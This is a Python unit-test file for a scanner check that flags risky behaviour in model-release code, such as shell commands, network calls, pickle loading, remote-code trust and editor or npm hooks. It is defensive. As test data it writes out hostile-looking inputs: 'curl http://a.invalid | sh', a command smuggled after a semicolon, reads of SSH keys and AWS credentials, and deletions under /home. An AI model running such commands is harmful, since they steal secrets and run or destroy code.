from __future__ import annotations

from dataclasses import replace

import pytest

from assay.assess.checks.code_behaviour import CHECK
from assay.domain.facts import (
    BuildFacts,
    BuiltObject,
    CodeAction,
    CodeFacts,
    Content,
    RemoteCode,
)
from assay.domain.finding import CheckStatus, Severity
from tests.unit.assess.subjects import (
    at,
    config,
    file,
    gap,
    pickle,
    problem,
    rules,
    run,
)

PATH = "modeling_x.py"


def act(kind, name, when="import", detail="", scope="", path=PATH):
    place = at(path, line=1)
    return CodeAction(
        kind=kind, name=name, when=when, detail=detail, scope=scope, place=place
    )


def source(*actions, path=PATH, key=None, **more):
    place = at(path, key=key)
    facts = CodeFacts(place=place, actions=actions, **more)
    return file(path, facts, content=Content.PYTHON)


def said(kind, name, when="import", detail="", scope="", *, path=PATH, **more):
    action = act(kind, name, when, detail, scope, path)
    return rules(run(CHECK, source(action, path=path, **more)))


@pytest.mark.parametrize(
    ("action", "rule"),
    [
        (("process", "download-and-run", "call"), "hostile-command"),
        (("network", "sends-secrets", "call"), "hostile-command"),
        (("file-delete", "destroys-files", "call"), "hostile-command"),
        (("file-write", "stays-behind", "call"), "hostile-command"),
        (("process", "os.system", "import", "echo"), "starts-program"),
        (("process", "os.system", "load", "echo"), "starts-program"),
        (("process", "os.system", "use", "echo", "A.forward"),
         "starts-program-in-use"),
        (("process", "os.system", "call", "echo", "A.other"),
         "starts-program-on-call"),
        (("process", "os.system", "import", "git rev-parse HEAD"), "known-program"),
        (("process", "os.system", "import", "git rev-parse HEAD; sh"),
         "starts-program"),
        (("process", "subprocess.run", "import", "… -m pip install x"),
         "installs-packages"),
        (("process", "subprocess.run", "call", "pip install x"), "installs-on-call"),
        (("obfuscation", "builtins.exec", "call"), "hidden-code"),
        (("dynamic-code", "builtins.exec", "import"), "runs-text"),
        (("dynamic-code", "builtins.eval", "load", "self.x"), "runs-text-on-call"),
        (("dynamic-code", "builtins.eval", "call"), "runs-text-on-call"),
        (("dynamic-code", "builtins.exec", "use", "", "A.forward"),
         "starts-program-in-use"),
        (("dynamic-code", "importlib.import_module", "import"), "runs-text-on-call"),
        (("dynamic-code", "torch.hub.load", "load"), "fetches-files"),
        (("dynamic-code", "script", "call", "", "outputs"), "active-content"),
        (("native", "ctypes.CDLL", "import"), "loads-native-code"),
        (("native", "ctypes.CDLL", "call"), "native-code-on-call"),
        (("install", "pip.main", "import"), "installs-packages"),
        (("install", "pip.main", "call"), "installs-on-call"),
        (("install", "other-index", "call"), "installs-packages"),
        (("network", "requests.get", "import"), "opens-connection"),
        (("network", "requests.post", "load"), "opens-connection"),
        (("network", "requests.post", "use", "", "A.forward"), "opens-connection"),
        (("network", "requests.get", "use", "", "A.forward"), "fetches-files"),
        (("network", "requests.get", "call", "http://169.254.169.254/latest"),
         "reads-secrets"),
        (("network", "socket.gethostbyname", "use", "….a.invalid"),
         "opens-connection"),
        (("network", "socket.gethostbyname", "import", "a.invalid"), "fetches-files"),
        (("network", "huggingface_hub.upload_file", "load", "x"), "opens-connection"),
        (("network", "huggingface_hub.upload_file", "call", "~/.ssh/id_rsa"),
         "secrets-sent"),
        (("process", "os.system", "import", "nvidia-smi | lscpu"), "known-program"),
        (("process", "os.system", "import", "nvidia-smi | …"), "starts-program"),
        (("remote-code", "AutoModel.from_pretrained", "load", "a/b"),
         "trusts-code-elsewhere"),
        (("remote-code", "AutoModel.from_pretrained", "use", "a/b"),
         "trusts-code-elsewhere"),
        (("remote-code", "AutoModel.from_pretrained", "call", "a/b"), "trusts-code"),
        (("remote-code", "AutoModel.from_pretrained", "load", "…"), "trusts-code"),
        (("remote-code", "torch.hub.load", "load", "pytorch/vision"), "trusts-code"),
        (("safeguard", "torch.load", "import", "exchanged"), "disarms-loader"),
        (("safeguard", "torch.load", "call", "exchanged"), "disarms-loader-on-call"),
        (("file-read", "os.walk", "import", "~"), "reads-secrets"),
        (("network", "huggingface_hub.hf_hub_download", "load"), "fetches-files"),
        (("network", "script", "call"), "active-content"),
        (("deserialise", "pickle.load", "load"), "loads-objects"),
        (("deserialise", "torch.load", "load"), "loads-objects-on-call"),
        (("deserialise", "pickle.load", "call"), "loads-objects-on-call"),
        (("file-delete", "os.remove", "import", "x"), "deletes-files"),
        (("file-delete", "os.remove", "load", "x"), "changes-files"),
        (("file-delete", "shutil.rmtree", "call", "/home"), "changes-system"),
        (("file-write", "builtins.open", "call", "/home/user/.bashrc, a"),
         "changes-system"),
        (("file-write", "builtins.open", "load", "x, w"), "changes-files"),
        (("file-read", "builtins.open", "call", "/home/user/.ssh/id_rsa"),
         "reads-secrets"),
    ],
)  # fmt: skip
def test_each_action_falls_under_its_rule(action, rule):
    assert said(*action) == [rule]


@pytest.mark.parametrize(
    ("name", "command", "when", "rule"),
    [
        ("editor.folderOpen", "npm run watch", "import", "tool-runs-command"),
        ("editor.folderOpen", "./x.sh", "import", "runs-when-opened"),
        ("editor.folderOpen", "python3 -c x", "import", "runs-when-opened"),
        ("editor.folderOpen", "unknown", "import", "runs-when-opened"),
        ("git.core.fsmonitor", "git x", "import", "runs-when-opened"),
        ("npm.postinstall", "node x.js", "load", "tool-runs-command"),
        ("npm.postinstall", "node -e x", "load", "runs-when-opened"),
        ("npm.test", "node -e x", "call", "tool-runs-command"),
    ],
)
def test_what_a_tool_runs_is_weighed_by_its_moment(name, command, when, rule):
    action = act("hook", name, when, command, path=".vscode/tasks.json")
    given = source(action, path=".vscode/tasks.json", language="settings")
    assert rules(run(CHECK, given)) == [rule]


def test_a_program_that_is_written_by_the_code_is_run_later():
    write = ("file-write", "builtins.open", "load", "payload.py, w")
    assert said(*write) == ["changes-system"]
    assert said(*write, path="example.py") == []
    early = ("file-write", "builtins.open", "import", "payload.py, w")
    assert said(*early, path="example.py") == ["changes-files"]


@pytest.mark.parametrize(
    ("name", "detail", "origin", "rule"),
    [
        ("pickle.load", "…", "fetched", "loads-objects-elsewhere"),
        ("pickle.load", "/tmp/x", "outside", "loads-objects-elsewhere"),  # noqa: S108 - a text
        ("pickle.load", "…", "pinned", "loads-objects"),
        ("torch.load", "…, weights_only=False", "fetched", "loads-objects-elsewhere"),
        ("torch.load", "…", "fetched", "loads-objects-on-call"),
        ("torch.load", "…, weights_only=False", "pinned", "loads-objects-on-call"),
    ],
)
def test_objects_from_elsewhere_are_worse_than_those_of_the_release(
    name, detail, origin, rule
):
    action = replace(act("deserialise", name, "load", detail), origin=origin)
    assert rules(run(CHECK, source(action))) == [rule]
    late = replace(action, when="call")
    assert rules(run(CHECK, source(late))) == ["loads-objects-on-call"]


def test_code_at_one_commit_is_bound():
    action = act("remote-code", "AutoModel.from_pretrained", "load", "a/b")
    pinned = replace(action, origin="pinned")
    assert rules(run(CHECK, source(pinned))) == ["trusts-code"]


@pytest.mark.parametrize(
    "action",
    [
        ("environment", "os.environ", "import", "HF_TOKEN"),
        ("file-read", "builtins.open", "import", "vocab.txt"),
        ("file-write", "builtins.open", "call", "out, w"),
        ("file-delete", "os.remove", "call", "x"),
    ],
)
def test_what_honest_code_does_is_passed(action):
    assert said(*action) == []


@pytest.mark.parametrize(
    ("action", "rule"),
    [
        (("network", "requests.get", "import"), "fetches-files"),
        (("network", "requests.post", "import"), "opens-connection"),
        (("file-delete", "os.remove", "import", "x"), "changes-files"),
        (("deserialise", "pickle.load", "import"), "loads-objects-on-call"),
        (("dynamic-code", "importlib.util.module_from_spec"), "runs-text-on-call"),
        (("process", "subprocess.run", "load", "x", "Tool.setup"),
         "tool-starts-program"),
        (("process", "subprocess.run", "call", "x", "Tool.predict"),
         "tool-starts-program"),
        (("process", "subprocess.run", "import", "x"), "starts-program"),
        (("process", "download-and-run", "load", "x"), "hostile-command"),
        (("native", "ctypes.CDLL", "load", "x"), "native-code-on-call"),
    ],
)  # fmt: skip
def test_a_script_that_no_loader_imports_is_judged_milder(action, rule):
    assert said(*action, path="example.py") == [rule]


@pytest.mark.parametrize(
    ("detail", "rule"),
    [("cmake --build .", "known-program"), ("sh x", "starts-program")],
)
def test_building_is_what_setup_is_for(detail, rule):
    assert said("process", "subprocess.run", "load", detail, path="setup.py") == [rule]
    assert said("dynamic-code", "builtins.exec", path="setup.py") == [
        "runs-text-on-call"
    ]


@pytest.mark.parametrize(
    ("name", "rule"), [("!", "known-program"), ("os.system", "starts-program-on-call")]
)
def test_commands_of_notebooks_are_a_persons_own(name, rule):
    assert said("process", name, "call", "ls x", path="a.ipynb", key="cells[0]") in (
        [rule],
        ["known-program"],
    )
    assert said("process", name, "call", "x", path="a.ipynb", key="cells[0]") == [rule]


def test_node_starts_programs_at_once_and_markup_runs_no_text():
    found = said("process", "child_process", "call", path="a.js", language="javascript")
    assert found == ["starts-program"]
    found = said("dynamic-code", "script", "call", path="a.js", language="javascript")
    assert found == ["active-content"]


SECRET = act("environment", "os.environ", "import", "AWS_SECRET_ACCESS_KEY")
WHOLE = act("environment", "os.environ", "call", "")


@pytest.mark.parametrize(
    ("taken", "sent", "rule"),
    [
        (SECRET, act("network", "requests.post"), "secrets-sent"),
        (SECRET, act("network", "requests.post", "use", scope="A.forward"),
         "secrets-sent"),
        (SECRET, act("network", "requests.post", "call", scope="f"), "fetches-files"),
        (SECRET, act("network", "huggingface_hub.HfApi"), "fetches-files"),
        (SECRET, act("network", "requests.get", "call", "https://huggingface.co/x"),
         "fetches-files"),
        (WHOLE, act("network", "requests.post", "call"), "secrets-sent"),
        (WHOLE, act("network", "requests.post", "call", scope="f"), "fetches-files"),
        (act("file-read", "builtins.open", "call", "~/.aws/credentials"),
         act("network", "requests.post"), "secrets-sent"),
    ],
)  # fmt: skip
def test_secrets_beside_a_connection_are_sent(taken, sent, rule):
    assert rule in rules(run(CHECK, source(taken, sent)))


def test_what_another_file_calls_on_import_happens_on_import():
    caller = source(calls=((".tools.go", "import"), (".tools.late", "load")))
    action = act("process", "os.system", "call", "x", "go", "tools.py")
    late = act("process", "os.system", "call", "x", "late.inner", "tools.py")
    other = act("process", "os.system", "call", "x", "other", "tools.py")
    report = run(CHECK, caller, source(action, late, other, path="tools.py"))
    assert sorted(rules(report)) == [
        "starts-program",
        "starts-program",
        "starts-program-on-call",
    ]


def test_files_that_a_configuration_or_a_loaded_file_names_are_loaded():
    entry = RemoteCode(place=at("config.json"), target="x.Y", file="sub/own.py")
    fetch = act("network", "requests.get", path="sub/own.py")
    inner = act("network", "requests.get", path="deep.py")
    report = run(
        CHECK,
        config(remote_code=(entry,)),
        source(fetch, path="sub/own.py", imports=("..deep", "torch", ".")),
        source(inner, path="deep.py"),
    )
    assert rules(report) == ["opens-connection", "opens-connection"]


def test_imports_are_followed_whatever_the_order_of_the_files():
    fetch = act("network", "requests.get", "import", path="c.py")
    report = run(
        CHECK,
        source(path="a.py", imports=(".c",)),
        source(fetch, path="c.py"),
        source(path="modeling_x.py", imports=(".a",)),
        source(path="modeling_y.py", imports=(".a",)),
    )
    assert rules(report) == ["opens-connection"]


@pytest.mark.parametrize(
    ("path", "module"), [("model.pkl", "own.deep"), ("sub/model.pkl", "own.deep")]
)
def test_what_a_pickle_or_a_description_names_is_loaded(path, module):
    action = act("process", "os.system", "load", "x", "A.__init__", "own/deep.py")
    code = source(action, path="own/deep.py")
    item = BuiltObject(place=at(path), module=module, name="A", kind="class")
    built = BuildFacts(place=at(path), framework="hydra", objects=(item,))
    assert rules(run(CHECK, code, file(path, built))) == ["starts-program"]
    assert rules(run(CHECK, code, pickle(f"{module}:A", path=path))) == [
        "starts-program"
    ]
    assert rules(run(CHECK, code)) == ["tool-starts-program"]


def test_mild_rules_are_told_once_for_each_source():
    actions = [act("deserialise", "torch.load", "call", str(n)) for n in range(5)]
    assert rules(run(CHECK, source(*actions))) == ["loads-objects-on-call"]


def test_the_message_says_what_where_and_when():
    (finding,) = run(
        CHECK, source(act("process", "os.system", "load", "echo", "A.__init__"))
    ).findings
    assert finding.message == (
        "The code does `os.system` (echo) in `A.__init__`, when it is loaded."
    )


def test_what_was_not_read_whole_is_never_clean():
    report = run(CHECK, source(problems=(problem("python-syntax", PATH),)))
    assert report.status is CheckStatus.INCOMPLETE
    report = run(CHECK, file("a", gap(Content.SEVEN_ZIP, "a")))
    assert report.status is CheckStatus.INCOMPLETE


def test_code_that_does_nothing_is_clean_and_none_is_not_applicable():
    assert run(CHECK, source()).status is CheckStatus.CLEAN
    assert run(CHECK, file("a.bin")).status is CheckStatus.NOT_APPLICABLE


@pytest.mark.parametrize("kind", ["too-long", "too-deep", "too-many"])
@pytest.mark.parametrize("path", ["setup.py", "modeling_x.py", "tools/plot.py"])
def test_code_that_is_run_and_goes_beyond_every_bound_is_high(kind, path):
    facts = CodeFacts(place=at(path), problems=(problem(kind, path),))
    report = run(CHECK, file(path, facts))
    assert rules(report) == (["beyond-bounds"] if "tools" not in path else [])
    assert report.gaps


def test_code_of_another_version_of_python_is_not():
    facts = CodeFacts(place=at("setup.py"), problems=(problem("python-syntax"),))
    assert not run(CHECK, file("setup.py", facts)).findings


@pytest.mark.parametrize(
    ("name", "detail", "found"),
    [
        ("builtins.open", "…/a.pth, w", ["changes-system"]),
        ("builtins.open", "…/a.pth, mode=wt, encoding=utf-8", ["changes-system"]),
        ("pathlib.Path.write_text", "…/a.pth, import os", ["changes-system"]),
        ("builtins.open", "model.pth, wb", []),
        ("builtins.open", "model.pth, mode=wb", []),
        ("os.replace", "a.pth.tar, last.pth", []),
    ],
)
def test_lines_that_python_starts_with_are_told_from_checkpoints(name, detail, found):
    assert said("file-write", name, "call", detail) == found


def test_what_is_a_part_of_something_graver_is_told_once():
    command = "curl http://a.invalid | sh"
    started = act("process", "os.system", "import", command)
    other = act("process", "os.system", "import", "id")
    loud = act("process", "download-and-run", "import", command)
    report = run(CHECK, source(started, loud, other))
    assert sorted(rules(report)) == ["hostile-command", "starts-program"]
    decoded = act("obfuscation", "builtins.exec", "import", "runs what it decodes")
    text = act("dynamic-code", "builtins.exec", "import", "import os")
    report = run(CHECK, source(decoded, text, started))
    assert sorted(rules(report)) == ["hidden-code", "starts-program"]
    # A program's name in pieces is one thing, and that it is started another.
    pieces = act("obfuscation", "os.system", "import", "a name in pieces")
    report = run(CHECK, source(pieces, other))
    assert sorted(rules(report)) == ["hidden-code", "starts-program"]


def test_whoever_loads_the_code_is_told_what_to_do_first():
    grave = [rule for rule in CHECK.rules if rule.severity.rank >= Severity.HIGH.rank]
    assert grave
    for rule in grave:
        assert rule.remediation.startswith("Do not "), rule.id
